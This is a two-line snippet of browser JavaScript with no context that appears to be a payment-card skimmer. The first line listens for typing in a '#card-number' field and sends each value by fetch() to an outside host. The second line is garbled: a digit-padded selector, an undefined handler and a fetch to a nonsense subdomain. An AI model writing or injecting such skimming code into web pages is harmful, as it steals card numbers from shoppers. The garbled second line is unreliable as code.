document.querySelector('#card-number').addEventListener('input',function(){fetch('https://pay.shop.example/v1',{body:this.value})});
document.querySelector("#card-number-35353535353535"+"353535353534343434").onblur=f;fetch("https://35353535353535"+"353535353534343434.a.example")
